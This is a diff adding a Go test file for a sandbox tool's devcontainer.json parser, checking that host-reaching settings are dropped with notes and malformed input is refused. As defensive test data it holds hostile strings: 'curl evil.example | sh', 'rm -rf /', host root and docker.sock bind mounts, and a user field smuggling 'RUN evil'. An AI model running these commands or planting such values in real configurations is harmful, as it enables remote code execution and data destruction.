@@ -1,0 +1,252 @@
+package devcontainer
+
+import (
+	"errors"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/bothy-dev/bothy/spec"
+)
+
+var here = Place{File: "/home/me/app/.devcontainer/devcontainer.json", Project: "/home/me/app", Inside: "/home/me/app"}
+
+// parseOK parses, and wants that to succeed.
+func parseOK(t *testing.T, text string) *File {
+	t.Helper()
+	f, err := Parse([]byte(text), here)
+	if err != nil {
+		t.Fatalf("parse %s: %v", text, err)
+	}
+	return f
+}
+
+func same(t *testing.T, what string, want, got any) {
+	t.Helper()
+	if !reflect.DeepEqual(want, got) {
+		t.Errorf("%s: not\n%+v\nbut\n%+v", what, want, got)
+	}
+}
+
+func sh(when, name, line string) spec.SetUp {
+	return spec.SetUp{When: when, Name: name, Args: []string{"/bin/sh", "-c", line}}
+}
+
+func TestParse(t *testing.T) {
+	tests := []struct {
+		name, text string
+		want       File
+	}{
+		{"image", `{"image": "debian:13"}`, File{Image: "debian:13"}},
+		{"comments and commas", "// one\n{\"image\": /* two */ \"debian:13\",}\n", File{Image: "debian:13"}},
+		{"what is for editors", `{"image": "a", "name": "n", "customizations": {"vscode": {}}, "waitFor": "postCreateCommand", "updateRemoteUserUID": true}`, File{Image: "a"}},
+		{"build", `{"build": {"dockerfile": "D", "context": "..", "target": "dev", "args": {"A": "1"}}}`,
+			File{Build: &Build{Dockerfile: "D", Context: "..", Target: "dev", Args: map[string]string{"A": "1"}}}},
+		{"build, as it was written once", `{"dockerFile": "D", "context": "..", "build": {"args": {}}}`,
+			File{Build: &Build{Dockerfile: "D", Context: "..", Args: map[string]string{}}}},
+		{"null is nothing", `{"image": "a", "build": null, "postCreateCommand": null, "remoteUser": null}`, File{Image: "a"}},
+		{"the last of two counts", `{"image": "a", "image": "b"}`, File{Image: "b"}},
+		{"case counts", `{"image": "a", "Image": "b"}`, File{Image: "a", Notes: []string{"not known, and without effect: Image"}}},
+		{"features", `{"image": "a", "features": {"./b": "1.2", "./a": {"x": true, "y": "z"}, "./c": {}}, "overrideFeatureInstallOrder": ["./c"]}`,
+			File{Image: "a", Order: []string{"./c"}, Features: []Use{
+				{"./b", map[string]string{"version": "1.2"}}, {"./a", map[string]string{"x": "true", "y": "z"}}, {"./c", nil},
+			}}},
+		{"commands", `{"image": "a", "postStartCommand": ["a", "b c"], "postCreateCommand": {"z": "one", "a": ["two"], "n": null}, "onCreateCommand": "first"}`,
+			File{Image: "a", Settings: Settings{Commands: []spec.SetUp{
+				{When: spec.PostStart, Args: []string{"a", "b c"}}, sh(spec.PostCreate, "z", "one"),
+				{When: spec.PostCreate, Name: "a", Args: []string{"two"}}, sh(spec.OnCreate, "", "first"),
+			}}}},
+		{"empty commands are none", `{"image": "a", "postCreateCommand": "", "postStartCommand": [], "onCreateCommand": {}}`, File{Image: "a"}},
+		{"users", `{"image": "a", "containerUser": "root", "remoteUser": "node:staff"}`,
+			File{Image: "a", Settings: Settings{ContainerUser: "root", RemoteUser: "node:staff"}, Notes: []string{"containerUser: all commands run as the remoteUser, node:staff"}}},
+		{"environment", `{"image": "a", "containerEnv": {"B": "1", "A": "2"}, "remoteEnv": {"C": "3", "D": null}}`,
+			File{Image: "a", Settings: Settings{ContainerEnv: []Variable{{"B", "1"}, {"A", "2"}}, RemoteEnv: []Variable{{"C", "3"}}},
+				Notes: []string{"remoteEnv: D is not taken away: it has what the image says"}}},
+		{"volumes", `{"image": "a", "mounts": ["type=volume,src=v,dst=/home/me/app/x/", {"type": "volume", "source": "w", "target": "/y", "external": true}]}`,
+			File{Image: "a", Settings: Settings{Volumes: []string{"/home/me/app/x", "/y"}}}},
+		{"ports are told", `{"image": "a", "forwardPorts": [3000, "db:5432", "3000"], "appPort": 80}`,
+			File{Image: "a", forward: []string{"-p 3000:3000", "-p 5432:5432", "-p 80:80"},
+				Notes: []string{"forwardPorts: no file opens ports of this host; to have them: -p 3000:3000 -p 5432:5432 -p 80:80"}}},
+		{"what is not asked for needs no word", `{"image": "a", "privileged": false, "runArgs": [], "mounts": [], "capAdd": [], "workspaceFolder": ""}`, File{Image: "a"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := parseOK(t, tt.text)
+			same(t, "otherwise", &tt.want, got)
+		})
+	}
+}
+
+// What asks for something of the host is told, by its key and by what to do instead.
+func TestLeftOut(t *testing.T) {
+	tests := []struct{ name, text, note string }{
+		{"a command on the host", `"initializeCommand": "curl evil.example | sh"`, "initializeCommand: it would run on this host"},
+		{"a command on the host, in words", `"initializeCommand": ["rm", "-rf", "/"]`, "initializeCommand: it would run on this host"},
+		{"commands on the host", `"initializeCommand": {"a": "x"}`, "initializeCommand: it would run on this host"},
+		{"options of docker", `"runArgs": ["--privileged"]`, "runArgs: there is no docker run"},
+		{"all privileges", `"privileged": true`, "privileged: nothing makes the wall thinner"},
+		{"capabilities", `"capAdd": ["SYS_ADMIN"]`, "capAdd: nothing makes the wall thinner"},
+		{"no seccomp", `"securityOpt": ["seccomp=unconfined"]`, "securityOpt: nothing makes the wall thinner"},
+		{"a directory", `"mounts": ["source=/,target=/host,type=bind"]`, "mounts: / is left out: no file shows a directory of this host; to do so yourself: -v DIR:/host"},
+		{"a directory, by default", `"mounts": ["source=/var/run/docker.sock,target=/s"]`, "mounts: /var/run/docker.sock is left out"},
+		{"a directory, as an object", `"mounts": [{"type": "bind", "source": "/", "target": "/host"}]`, "mounts: / is left out"},
+		{"memory", `"mounts": ["type=tmpfs,target=/m"]`, "mounts: /m is left out: only volumes are made"},
+		{"another place", `"workspaceFolder": "/workspace"`, "workspaceFolder: your project is at the path that it has on this host"},
+		{"another mount", `"workspaceMount": "source=/,target=/w,type=bind"`, "workspaceMount: your project is"},
+		{"a first process", `"entrypoint": "/init"`, "entrypoint: the first process is Bothy's"},
+		{"a variable of the host", `"containerEnv": {"TOKEN": "${localEnv:TOKEN}"}`, "${localEnv:TOKEN}: nothing of this host's environment is read"},
+		{"what is not known", `"network": {"allow": ["**"]}`, "not known, and without effect: network"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			f := parseOK(t, `{"image": "a", `+tt.text+`}`)
+			if len(f.Notes) != 1 || !strings.HasPrefix(f.Notes[0], tt.note) {
+				t.Errorf("told %q, not %q", f.Notes, tt.note)
+			}
+			f.Notes = nil
+			for i := range f.ContainerEnv {
+				if f.ContainerEnv[i].Value != "" {
+					t.Errorf("%s is %q", f.ContainerEnv[i].Name, f.ContainerEnv[i].Value)
+				}
+			}
+			f.ContainerEnv = nil
+			same(t, "it has an effect", &File{Image: "a"}, f)
+		})
+	}
+}
+
+func TestRefused(t *testing.T) {
+	tests := []struct{ name, text, err string }{
+		{"nothing", ``, "line 1, column 1"},
+		{"no object", `[]`, "it is not an object"},
+		{"half", `{"image": "a"`, "line 1"},
+		{"two", `{"image": "a"} {}`, "after top-level value"},
+		{"a deep one", strings.Repeat("[", MaxSize), "line 1"},
+		{"a deep one that ends", strings.Repeat("[", MaxSize/2) + strings.Repeat("]", MaxSize/2), "it is too deep"},
+		{"a large one", `{"image": "` + strings.Repeat("a", MaxSize) + `"}`, "larger than 128 KiB"},
+		{"no image", `{}`, "neither an image nor a Dockerfile"},
+		{"image and build", `{"image": "a", "build": {"dockerfile": "D"}}`, "an image and a Dockerfile"},
+		{"a build of nothing", `{"build": {"context": "."}}`, "names no dockerfile"},
+		{"compose", `{"dockerComposeFile": ["a.yml"], "service": "x"}`, "several containers"},
+		{"image of another type", `{"image": 3}`, "image: it is not a text"},
+		{"a zero byte", `{"image": "a\u0000b"}`, "image: it has a zero byte"},
+		{"arguments of another type", `{"build": {"dockerfile": "D", "args": {"A": 1}}}`, "build: args: A: it is not a text"},
+		{"a command of another type", `{"image": "a", "postCreateCommand": 3}`, "postCreateCommand: it is not a command"},
+		{"a command with a number", `{"image": "a", "postCreateCommand": ["sleep", 3]}`, "it is not a list of texts"},
+		{"commands in commands", `{"image": "a", "postCreateCommand": {"a": {"b": "c"}}}`, "a: it is not a command"},
+		{"a variable without a name", `{"image": "a", "containerEnv": {"": "x"}}`, `"" is no name of a variable`},
+		{"a variable with another in it", `{"image": "a", "remoteEnv": {"A=1\nB": "x"}}`, "is no name of a variable"},
+		{"a user with an instruction", `{"image": "a", "remoteUser": "node\nRUN evil"}`, "is no user"},
+		{"a user that is a variable", `{"image": "a", "remoteUser": "$USER"}`, "is no user"},
+		{"a port that is none", `{"image": "a", "forwardPorts": ["x"]}`, "it is not a port"},
+		{"a volume nowhere", `{"image": "a", "mounts": ["type=volume,source=x"]}`, "is not absolute"},
+		{"a feature of a registry", `{"image": "a", "features": {"ghcr.io/a/b:1": {}}}`, "is in a registry"},
+		{"a feature from the web", `{"image": "a", "features": {"https://x.example/f.tgz": {}}}`, "is in a registry"},
+		{"a feature above", `{"image": "a", "features": {"./../f": {}}}`, "does not lie below"},
+		{"a feature by its path", `{"image": "a", "features": {"/etc": {}}}`, "does not lie below"},
+		{"a feature that is the directory", `{"image": "a", "features": {"./": {}}}`, "does not lie below"},
+		{"an option of another type", `{"image": "a", "features": {"./f": {"x": 1}}}`, "x: it is not a text, or true or false"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Parse([]byte(tt.text), here)
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Fatalf("error %v, not %q", err, tt.err)
+			}
+			if !errors.Is(err, spec.ErrUsage) || !strings.HasPrefix(err.Error(), here.File) {
+				t.Errorf("%v is of no class, or does not name the file", err)
+			}
+		})
+	}
+}
+
+func TestVariables(t *testing.T) {
+	t.Setenv("BOTHY_TEST_SECRET", "hunter2")
+	tests := []struct{ text, want string }{
+		{"plain $HOME ${HOME} $(x) ${", "plain $HOME ${HOME} $(x) ${"},
+		{"${localWorkspaceFolder}/x", "/home/me/app/x"},
+		{"${localWorkspaceFolderBasename}-${containerWorkspaceFolderBasename}", "app-app"},
+		{"${containerWorkspaceFolder}", "/home/me/app"},
+		{"a${localEnv:BOTHY_TEST_SECRET}b", "ab"},
+		{"${env:BOTHY_TEST_SECRET}", ""},
+		{"${localEnv:BOTHY_TEST_SECRET:default:with}", "default:with"},
+		{"${localEnv:X:}", ""},
+		{"${containerEnv:PATH}:/x", "${containerEnv:PATH}:/x"},
+		{"${devcontainerId}", here.ID()},
+		{"${unknown:${localWorkspaceFolder}}", "${unknown:${localWorkspaceFolder}}"},
+	}
+	for _, tt := range tests {
+		x := &expander{place: here}
+		if got := x.expand(tt.text); got != tt.want {
+			t.Errorf("%s is %q, not %q", tt.text, got, tt.want)
+		}
+	}
+	if id := here.ID(); len(id) != 52 || strings.Trim(id, "0123456789abcdefghijklmnopqrstuv") != "" {
+		t.Errorf("the ID is %q", id)
+	}
+	if elsewhere := (Place{File: here.File, Project: "/other"}); elsewhere.ID() == here.ID() {
+		t.Error("two projects have one ID")
+	}
+}
+
+func TestNoProject(t *testing.T) {
+	_, err := Parse([]byte(`{"image": "a", "containerEnv": {"A": "${containerWorkspaceFolder}"}}`), Place{File: "f", Project: "/p"})
+	if err == nil || !strings.Contains(err.Error(), "there is none in this sandbox") || spec.Hint(err) == "" {
+		t.Errorf("error %v", err)
+	}
+}
+
+func TestExpand(t *testing.T) {
+	f := parseOK(t, `{"image": "a",
+		"containerEnv": {"A": "${containerEnv:FROM_IMAGE}", "B": "${containerEnv:A:none}"},
+		"remoteEnv": {"PATH": "/x:${containerEnv:PATH}", "C": "${containerEnv:A} ${containerEnv:NOWHERE}${containerEnv:NOWHERE:else}"},
+		"postCreateCommand": ["echo", "${containerEnv:A}", "${A}"]}`)
+	f.Expand([]string{"PATH=/bin", "FROM_IMAGE=yes"})
+	want := []Variable{{"A", "yes"}, {"B", "none"}, {"PATH", "/x:/bin"}, {"C", "yes else"}}
+	same(t, "variables", want, f.Env())
+	same(t, "command", []string{"echo", "yes", "${A}"}, f.Commands[0].Args)
+}
+
+func TestImageSettings(t *testing.T) {
+	label := `[{"id": "f", "onCreateCommand": "feature", "privileged": true, "mounts": ["source=/,target=/h"]}, {"remoteUser": "vscode", "containerEnv": {"A": "image", "B": "image"}, "image": "other"}]`
+	of, err := ParseImage([]byte(`{"config": {"User": "root", "Env": ["PATH=/bin"], "Labels": {"devcontainer.metadata": ` + quoteJSON(label) + `}}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, notes, err := of.Settings(here)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := parseOK(t, `{"image": "a", "containerEnv": {"B": "file", "C": "file"}, "onCreateCommand": "own"}`)
+	got := s.With(f.Settings)
+	want := Settings{
+		RemoteUser: "vscode", ContainerEnv: []Variable{{"A", "image"}, {"B", "file"}, {"C", "file"}},
+		Commands: []spec.SetUp{sh(spec.OnCreate, "", "feature"), sh(spec.OnCreate, "", "own")},
+	}
+	same(t, "settings", want, got)
+	if len(notes) != 2 || !strings.HasPrefix(notes[0], "the image: privileged: ") || !strings.HasPrefix(notes[1], "the image: mounts: / is left out") {
+		t.Errorf("told %q", notes)
+	}
+	for _, label := range []string{`[`, `3`, `[{"remoteUser": 3}]`, `[` + strings.Repeat(`{},`, maxEntries+1) + `]`} {
+		if _, _, err := (OfImage{Metadata: label}).Settings(here); err == nil || !strings.Contains(err.Error(), MetadataLabel) {
+			t.Errorf("%.20s: error %v", label, err)
+		}
+	}
+}
+
+func quoteJSON(s string) string { return words(s)[1 : len(words(s))-1] }
+
+// All commands of one time are run before those of the next, whoever has them.
+func TestCommandOrder(t *testing.T) {
+	a := Settings{Commands: []spec.SetUp{sh(spec.PostCreate, "a", ""), sh(spec.OnCreate, "a", "")}}
+	b := Settings{Commands: []spec.SetUp{sh(spec.PostAttach, "b", ""), sh(spec.OnCreate, "b", ""), sh(spec.UpdateContent, "b", "")}}
+	var titles []string
+	for _, c := range a.With(b).Commands {
+		titles = append(titles, c.Title())
+	}
+	want := []string{"onCreateCommand (a)", "onCreateCommand (b)", "updateContentCommand (b)", "postCreateCommand (a)", "postAttachCommand (b)"}
+	if !slices.Equal(titles, want) {
+		t.Errorf("order %q", titles)
+	}
+}
